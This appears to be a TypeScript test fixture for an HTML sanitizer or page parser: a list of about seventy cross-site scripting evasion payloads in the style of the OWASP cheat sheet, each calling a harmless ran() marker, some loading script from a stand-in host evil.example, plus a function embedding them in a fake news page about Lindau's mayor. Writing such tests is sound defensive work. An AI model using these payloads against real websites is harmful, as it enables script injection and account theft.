/**
 * Ways to make a page run what was put into it, in the manner of the OWASP cheat sheet on filter evasion. Each calls
 * `ran()`, so that a test can tell whether any of them did.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>ran()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<script>/*</script><svg onload=ran()>*/',
  '<<SCRIPT>ran();//<</SCRIPT>',
  '<script\\x20type="text/javascript">ran();</script>',
  '<img src=x onerror=ran()>',
  '<img src="x` `<script>ran()</script>"` `>',
  '<IMG """><SCRIPT>ran()</SCRIPT>"\\>',
  '<IMG SRC=javascript:ran()>',
  '<IMG SRC=JaVaScRiPt:ran()>',
  '<IMG SRC="jav&#x09;ascript:ran();">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;ran()>',
  '<img src=x:x onerror=eval("r"+"an()")>',
  '<IMG onmouseover="ran()" SRC=# >',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran()"><text x="20" y="20">x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x"/></svg>',
  '<math><mi xlink:href="javascript:ran()">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  '<body onload=ran()>',
  '<body background="javascript:ran()">',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()>',
  '<textarea autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()>',
  '<marquee onstart=ran()>',
  '<iframe src="javascript:ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<a href="javascript:ran()">click</a>',
  '<a href="java\\nscript:ran()">click</a>',
  '<a href="data:text/html,<script>opener.ran()</script>">click</a>',
  '<form action="javascript:ran()"><button>go</button></form>',
  '<button formaction="javascript:ran()">go</button>',
  '<isindex type=image src=1 onerror=ran()>',
  '<link rel=stylesheet href="javascript:ran()">',
  '<link rel=import href="https://evil.example/x.html">',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<base href="javascript:ran()//">',
  '<style>@import "javascript:ran()";</style>',
  '<style>*{background:url("javascript:ran()")}</style>',
  '<div style="width:expression(ran())">',
  '<div style="background-image:url(javascript:ran())">',
  '<table background="javascript:ran()"><td>x',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<template><script>ran()</script></template>',
  '<title><img title="</title><img src=x onerror=ran()>"></title>',
  '<xmp><p title="</xmp><svg/onload=ran()>"></xmp>',
  '<!--><img src=x onerror=ran()>-->',
  '<![CDATA[<img src=x onerror=ran()>]]>',
  '<?xml-stylesheet href="javascript:ran()"?>',
  '"><script>ran()</script>',
  "'-ran()-'",
  '</textarea><script>ran()</script>',
  '</script><script>ran()</script>',
  '</style><svg onload=ran()>',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '\\u003cscript\\u003eran()\\u003c/script\\u003e',
  '[link](javascript:ran())',
  '![x](x "onerror=ran()")',
  '=HYPERLINK("javascript:ran()")',
];

/** A page of a headline and prose with every payload in between, escaped and not, in the text and in what it says of itself. */
export function hostilePage(): string {
  const attribute = (payload: string): string => payload.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const escaped = (payload: string): string => attribute(payload).replaceAll('<', '&lt;');
  const body = XSS_PAYLOADS.map(
    (payload, i) =>
      `<p>The council of Lindau heard speaker number ${i + 1} on the harbour, who said: ${escaped(payload)} and sat down.</p>\n<div>${payload}</div></div></svg></math></template></noscript></style></title></textarea></select>`,
  );
  const title = attribute('Mayor resigns <img src=x onerror=ran()>');
  return `<!doctype html><html lang="en"><head><title>${escaped('</title><script>ran()</script>')}</title>
<meta property="og:title" content="${title}"><meta name="author" content="${attribute('"><svg onload=ran()>')}">
<meta property="og:site_name" content="${attribute("'><script>ran()</script>")}">
<link rel="canonical" href="javascript:ran()"></head><body><article><h1>${title}</h1>
<p>The mayor of Lindau resigned on Tuesday after a year of quarrels over the new harbour.</p>
${body.join('\n')}
<p>Residents had collected 3,200 signatures against the harbour since January.</p></article></body></html>`;
}
